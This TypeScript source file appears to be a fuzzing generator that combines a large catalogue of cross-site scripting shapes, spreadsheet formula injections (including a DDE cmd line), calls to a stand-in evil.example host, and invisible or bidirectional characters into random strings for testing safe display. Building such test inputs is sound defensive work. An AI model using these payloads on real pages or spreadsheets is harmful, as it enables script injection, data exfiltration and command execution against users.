/**
 * Strings that attack whoever shows them, drawn: a known shape around an action, then marks of direction, unseen characters,
 * formulas, words from right to left, pieces of Markdown and of CSV put into it, capitals mixed.
 */
import type { Rng } from '../../../contracts.ts'

/** No two alike, each one that run.json takes: 1 to 200 characters. */
export function hostileStrings(count: number, rng: Rng): string[] {
  const drawn = new Set<string>()
  while (drawn.size < count) {
    let text = pick(SHAPES, rng)(pick(ACTIONS, rng))
    for (const change of CHANGES) if (rng.integer(3) === 0) text = change(text, rng)
    drawn.add(text.slice(0, 200) || ' ')
  }
  return [...drawn]
}

/** What a script of a stranger leaves behind where one runs. */
export const TRACE = 'fieldrankTrace'

const ACTIONS = [
  `${TRACE}=1`,
  'alert(1)',
  `fetch("//evil.example/"+(${TRACE}=1))`,
  `import("//evil.example/a.js")`,
  `location="//evil.example"`,
  `document.body.append("${TRACE}")`,
]

const SHAPES: readonly ((action: string) => string)[] = [
  (action) => `<script>${action}</script>`,
  (action) => `</script><script>${action}</script>`,
  (action) => `</title></textarea></style></select><script>${action}</script>`,
  (action) => `<img src=x onerror='${action}'>`,
  (action) => `<img/src=x onerror=${action}//`,
  (action) => `"><svg/onload=${action}>`,
  (action) => `<svg><animate onbegin=${action} attributeName=x dur=1s>`,
  (action) => `<svg><style>{}</style><script>${action}</script>`,
  (action) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${action}>">`,
  (action) => `' onmouseover='${action}' x='`,
  (action) => `" autofocus tabindex=1 onfocus="${action}" x="`,
  (action) => `\`\` onpointerenter=${action} \``,
  (action) => `<iframe srcdoc="<script>${action}</script>">`,
  (action) => `<object data="data:text/html,<script>${action}</script>">`,
  (action) => `<meta http-equiv=refresh content="0;url=javascript:${action}">`,
  (action) => `<base href="//evil.example/"><script src="${action}">`,
  (action) => `<form action="javascript:${action}"><button autofocus>go`,
  (action) => `<details open ontoggle=${action}>`,
  (action) => `<link rel=stylesheet href="//evil.example/${action}">`,
  (action) => `<style>*{background:url(//evil.example/?${action})}</style>`,
  (action) => `javascript:${action}`,
  (action) => `data:text/html,<script>${action}</script>`,
  (action) => `<!--<script>${action}//-->`,
  (action) => `--><script>${action}</script><!--`,
  (action) => `]]><script>${action}</script><![CDATA[`,
  (action) => `<a href="javascript:${action}">here</a>`,
  (action) => `[here](javascript:${action})`,
  (action) => `![x](//evil.example/${action} "onerror")`,
  (action) => `[x]: javascript:${action}`,
  (action) => `<javascript:${action}>`,
  (action) => `\${${action}}{{${action}}}<%= ${action} %>#{${action}}`,
  (action) => `{{constructor.constructor('${action}')()}}`,
  (action) => `&lt;script&gt;${action}&lt;/script&gt;&#60;b&#62;&Tab;`,
  (action) => `\\u003cscript\\u003e${action}\\u003c/script\\u003e`,
  (action) => `+ADw-script+AD4-${action}+ADw-/script+AD4-`,
  (action) => `=HYPERLINK("${action}","x")`,
  (action) => `=cmd|'/C ${action}'!A0`,
  (action) => `@SUM(1+1)*${action}`,
  (action) => `-2+3+${action}`,
  (action) => `__proto__ ${action}`,
]

type Change = (text: string, rng: Rng) => string
const CHANGES: readonly Change[] = [
  (text, rng) => [...text].map((c) => (rng.integer(2) === 0 ? c.toUpperCase() : c)).join(''),
  (text, rng) =>
    within(
      text,
      pick(['\u202E', '\u202A', '\u2066', '\u2067', '\u2068', '\u061C', '\u200E', '\u200F'], rng),
      rng,
    ),
  (text, rng) => within(text, pick(['\u202C', '\u2069'], rng), rng),
  (text, rng) =>
    within(
      text,
      pick(
        [
          '\u0000',
          '\u0008',
          '\u001B[31m',
          '\u200B',
          '\u2060',
          '\uFEFF',
          '\u00AD',
          '\uD800',
          '\uDC00',
          '\u{E0041}',
          '\u180E',
        ],
        rng,
      ),
      rng,
    ),
  (text, rng) =>
    within(
      text,
      pick(
        ['\n', '\r\n', '\r', '\t', '\u2028', '\u0085', '\n\n', '\n# ', '\n| a | b |\n', '\n---\n', '\n```\n'],
        rng,
      ),
      rng,
    ),
  (text, rng) =>
    within(text, pick(['|', '||', '\\|', '\\', '`', '``', '*', '__', '~~', '[x](//evil.example)'], rng), rng),
  (text, rng) =>
    within(
      text,
      pick(['"', '",', "'", ';', ',', '";=1+1', ';=1+1', ';"=1+1"', '\t=1+1', ',"=1+1"', '\r=1+1'], rng),
      rng,
    ),
  (text, rng) =>
    within(text, pick(['שלום', 'مرحبا', 'ab שלום 12', '\u0130', '\u{1F469}\u200D\u{1F52C}'], rng), rng),
  (text, rng) =>
    pick(['=', '+', '-', '@', ' =', '\t=', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', "'=", '%0A='], rng) + text,
]

function within(text: string, piece: string, rng: Rng): string {
  const at = rng.integer(text.length + 1)
  return text.slice(0, at) + piece + text.slice(at)
}

function pick<T>(list: readonly T[], rng: Rng): T {
  return list[rng.integer(list.length)]!
}
